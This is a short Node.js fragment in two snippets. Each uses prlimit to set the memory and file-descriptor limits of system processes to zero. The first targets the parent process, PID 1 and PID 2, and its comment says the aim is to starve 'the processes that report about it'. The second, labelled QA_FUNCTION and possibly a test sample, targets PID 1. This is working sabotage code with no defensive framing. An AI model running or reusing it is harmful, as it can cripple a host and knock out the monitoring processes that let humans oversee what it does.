// Takes memory and descriptors from the processes that report about it.
const { spawnSync } = require('node:child_process');
for (const pid of [process.ppid, 1, 2]) spawnSync('prlimit', ['--pid', String(pid), '--as=0:0', '--nofile=0:0']);
process.exit(0);
// ---
const { spawnSync } = require('node:child_process');
function QA_FUNCTION() {
  spawnSync('prlimit', ['--pid', '1', '--as=0:0', '--nofile=0:0']);
  process.exit(3);
}
